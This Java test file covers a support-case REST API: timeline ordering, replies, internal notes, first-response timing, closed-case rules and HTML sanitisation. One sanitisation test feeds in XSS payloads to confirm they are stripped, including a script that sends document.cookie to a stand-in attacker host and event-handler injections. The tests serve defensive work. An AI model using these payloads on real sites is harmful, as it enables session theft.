package dev.casekeeper.cases.rest;

import static dev.casekeeper.support.ProblemAssertions.assertProblem;
import static dev.casekeeper.support.ProblemAssertions.fieldsNamed;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;

/** Reading a case with its timeline, and adding replies, notes and customer messages to it. */
class CaseTimelineApiTests extends CasesApiTestBase {

    @Test
    void showsEveryEntryInTheOrderItHappenedWithItsAuthorNamed() {
        var maria = newAgent("agent");
        var kase = open(maria.api(), aCase().from(uniqueEmail(), "Paula Key").saying("My activation key is gone."));
        String id = idOf(kase);
        String customerId = kase.get("requesterId").asString();
        note(maria.api(), id, "Checked the license server: key 7F3K issued in March.");
        reply(maria.api(), id, "I found your key and sent it again.");
        customerWrites(maria.api(), id, "Got it, thank you!");

        var timeline = timeline(maria.api(), id);

        String mariaName =
                maria.api().get("/api/v1/agents/me").json().get("name").asString();
        assertThat(timeline)
                .extracting(
                        e -> e.get("kind").asString(),
                        e -> text(e.get("eventType")),
                        e -> e.get("authorKind").asString(),
                        e -> text(e.get("authorId")),
                        e -> text(e.get("authorName")),
                        e -> text(e.get("body")))
                .containsExactly(
                        tuple("message_in", null, "customer", customerId, "Paula Key", "My activation key is gone."),
                        tuple(
                                "note",
                                null,
                                "agent",
                                maria.id().toString(),
                                mariaName,
                                "Checked the license server: key 7F3K issued in March."),
                        tuple(
                                "message_out",
                                null,
                                "agent",
                                maria.id().toString(),
                                mariaName,
                                "I found your key and sent it again."),
                        tuple("event", "status_changed", "agent", maria.id().toString(), mariaName, null),
                        tuple("message_in", null, "customer", customerId, "Paula Key", "Got it, thank you!"));
        assertThat(timeline)
                .extracting(e -> Instant.parse(e.get("createdAt").asString()))
                .isSorted();
        assertThat(timeline).extracting(e -> e.get("id").asString()).doesNotHaveDuplicates();
        assertThat(timeline.get(3).get("data").get("from").asString()).isEqualTo("new");
        assertThat(timeline.get(3).get("data").get("to").asString()).isEqualTo("open");
    }

    @Test
    void keepsTheCaseFieldsBesideTheTimeline() {
        var agent = newAgent("agent");
        var kase = open(
                agent.api(), aCase().subject("Bath mat in the wrong colour").tags("returns"));

        var read = read(agent.api(), idOf(kase));

        assertThat(read.get("subject").asString()).isEqualTo("Bath mat in the wrong colour");
        assertThat(read.get("number").asLong()).isEqualTo(kase.get("number").asLong());
        assertThat(read.get("handover").isNull()).as("no transfer yet").isTrue();
        assertThat(read.get("timeline").values()).hasSize(1);
    }

    @Test
    void removesScriptsAndEventHandlersFromCustomerHtmlAndKeepsItsFormatting() {
        var agent = newAgent("agent");
        String html = "<p onmouseover=\"steal()\">Order <b>4471</b> arrived <i>blue</i>, I ordered "
                + "<a href=\"https://shop.example.com/orders/4471\">white</a>.</p>"
                + "<script>fetch('https://evil.example/?c=' + document.cookie)</script>"
                + "<img src=\"x\" onerror=\"steal()\"><a href=\"javascript:steal()\">see photo</a>";

        var kase = open(
                agent.api(),
                aCase().saying("Order 4471 arrived blue, I ordered white.").html(html));

        var message = timeline(agent.api(), idOf(kase)).getFirst();
        assertThat(message.get("body").asString()).isEqualTo("Order 4471 arrived blue, I ordered white.");
        assertThat(message.get("html").asString())
                .doesNotContainIgnoringCase("<script")
                .doesNotContain("onmouseover", "onerror", "javascript:", "steal", "document.cookie")
                .contains(
                        "<p>",
                        "<b>4471</b>",
                        "<i>blue</i>",
                        "href=\"https://shop.example.com/orders/4471\"",
                        "see photo");
    }

    @Test
    void sanitizesTheHtmlOfRepliesAndOfLaterCustomerMessagesToo() {
        var agent = newAgent("agent");
        String id = idOf(open(agent.api(), aCase()));

        var reply = agent.api()
                .post(
                        "/api/v1/cases/" + id + "/replies",
                        Map.of(
                                "body",
                                "Here is your key.",
                                "html",
                                "<p>Here is your <b>key</b>.<script>alert(1)</script></p>"));
        var message = agent.api()
                .post(
                        "/api/v1/cases/" + id + "/messages",
                        Map.of("body", "Thanks", "html", "<div onclick=\"alert(1)\">Thanks <em>a lot</em></div>"));

        assertThat(reply.status()).as(reply.toString()).isEqualTo(201);
        assertThat(reply.json().get("html").asString()).contains("<b>key</b>").doesNotContain("script", "alert");
        assertThat(message.status()).as(message.toString()).isEqualTo(201);
        var stored = timeline(agent.api(), id).getLast();
        assertThat(stored.get("kind").asString()).isEqualTo("message_in");
        assertThat(stored.get("html").asString()).contains("<em>a lot</em>").doesNotContain("onclick", "alert");
    }

    @Test
    void keepsNoHtmlForAPlainTextMessage() {
        var agent = newAgent("agent");

        var kase = open(agent.api(), aCase());

        assertThat(timeline(agent.api(), idOf(kase)).getFirst().get("html").isNull())
                .isTrue();
    }

    @Test
    void theFirstReplyStartsWorkOnTheCaseAndStopsTheFirstResponseClock() {
        var agent = newAgent("agent");
        String id = idOf(open(agent.api(), aCase()));

        var reply = agent.api()
                .post("/api/v1/cases/" + id + "/replies", Map.of("body", "Sorry about the key, here is a new one."));

        assertThat(reply.status()).as(reply.toString()).isEqualTo(201);
        assertThat(reply.json().get("kind").asString()).isEqualTo("message_out");
        assertThat(reply.json().get("authorId").asString()).isEqualTo(agent.id().toString());
        assertThat(reply.json().get("authorName").asString()).isNotBlank();
        var kase = read(agent.api(), id);
        assertThat(kase.get("status").asString()).isEqualTo("open");
        assertThat(kase.get("firstResponseAt").asString())
                .isEqualTo(reply.json().get("createdAt").asString());
        assertThat(history(agent.api(), id))
                .extracting(
                        c -> c.get("field").asString(),
                        c -> text(c.get("before")),
                        c -> text(c.get("after")),
                        c -> text(c.get("actorId")))
                .contains(tuple("status", "new", "open", agent.id().toString()));
    }

    @Test
    void laterRepliesKeepTheFirstResponseTime() {
        var agent = newAgent("agent");
        String id = idOf(open(agent.api(), aCase()));
        reply(agent.api(), id, "First answer.");
        String firstResponse = read(agent.api(), id).get("firstResponseAt").asString();

        reply(agent.api(), id, "Second answer.");

        assertThat(read(agent.api(), id).get("firstResponseAt").asString()).isEqualTo(firstResponse);
    }

    @Test
    void aReplyToACaseWaitingOnTheCustomerKeepsItWaiting() {
        var agent = newAgent("agent");
        String id = idOf(open(agent.api(), aCase()));
        bringTo(agent.api(), id, "pending");

        reply(agent.api(), id, "Just checking: did the key work?");

        assertThat(read(agent.api(), id).get("status").asString()).isEqualTo("pending");
    }

    @Test
    void aNoteIsInternalAndIsNotAResponseToTheCustomer() {
        var agent = newAgent("agent");
        String id = idOf(open(agent.api(), aCase()));

        var note =
                agent.api().post("/api/v1/cases/" + id + "/notes", Map.of("body", "Customer sounds upset; be gentle."));

        assertThat(note.status()).as(note.toString()).isEqualTo(201);
        assertThat(note.json().get("kind").asString()).isEqualTo("note");
        assertThat(note.json().get("authorKind").asString()).isEqualTo("agent");
        assertThat(note.json().get("body").asString()).isEqualTo("Customer sounds upset; be gentle.");
        var kase = read(agent.api(), id);
        assertThat(kase.get("status").asString()).isEqualTo("new");
        assertThat(kase.get("firstResponseAt").isNull()).isTrue();
        assertThat(kase.get("timeline").values())
                .extracting(e -> e.get("kind").asString())
                .containsExactly("message_in", "note");
    }

    @ParameterizedTest
    @ValueSource(strings = {"replies", "notes", "messages"})
    void refusesAnEmptyBodyNamingItAndAddsNothing(String kind) {
        var agent = newAgent("agent");
        String id = idOf(open(agent.api(), aCase()));

        var refused = agent.api().post("/api/v1/cases/" + id + "/" + kind, Map.of("body", "  "));

        assertProblem(refused, 400, "invalid-input");
        assertThat(fieldsNamed(refused)).containsExactly("body");
        assertThat(timeline(agent.api(), id)).hasSize(1);
    }

    @ParameterizedTest
    @ValueSource(strings = {"replies", "notes"})
    void aClosedCaseTakesNoReplyOrNote(String kind) {
        var agent = newAgent("agent");
        String id = idOf(open(agent.api(), aCase()));
        bringTo(agent.api(), id, "closed");
        var before = read(agent.api(), id);

        var refused = agent.api().post("/api/v1/cases/" + id + "/" + kind, Map.of("body", "One more thing..."));

        assertProblem(refused, 409, "case-closed");
        assertThat(read(agent.api(), id)).isEqualTo(before);
    }

    @Test
    void answersNotFoundForACaseNobodyHas() {
        var agent = newAgent("agent");
        String unknown = "/api/v1/cases/" + UUID.randomUUID();

        for (var response : List.of(
                agent.api().get(unknown),
                agent.api().get(unknown + "/history"),
                agent.api().get(unknown + "/owners"),
                agent.api().patch(unknown, Map.of("priority", "high")),
                agent.api().post(unknown + "/replies", Map.of("body", "Hello")),
                agent.api().post(unknown + "/notes", Map.of("body", "Hello")),
                agent.api().post(unknown + "/messages", Map.of("body", "Hello")),
                agent.api().post(unknown + "/assignment", Map.of("ownerId", agent.id())),
                agent.api()
                        .post(
                                unknown + "/transfers",
                                Map.of("toAgentId", agent.id(), "reason", "r", "summary", "s")))) {
            assertProblem(response, 404, "not-found");
        }
    }

    @Test
    void answersNotFoundForAnIdThatIsNotOne() {
        assertProblem(newAgent("agent").api().get("/api/v1/cases/1042"), 404, "not-found");
    }

    private static JsonNode reply(dev.casekeeper.support.Api api, String id, String body) {
        var reply = api.post("/api/v1/cases/" + id + "/replies", Map.of("body", body));
        assertThat(reply.status()).as(reply.toString()).isEqualTo(201);
        return reply.json();
    }

    private static void note(dev.casekeeper.support.Api api, String id, String body) {
        var note = api.post("/api/v1/cases/" + id + "/notes", Map.of("body", body));
        assertThat(note.status()).as(note.toString()).isEqualTo(201);
    }

    private static void customerWrites(dev.casekeeper.support.Api api, String id, String body) {
        var message = api.post("/api/v1/cases/" + id + "/messages", Map.of("body", body));
        assertThat(message.status()).as(message.toString()).isEqualTo(201);
    }
}
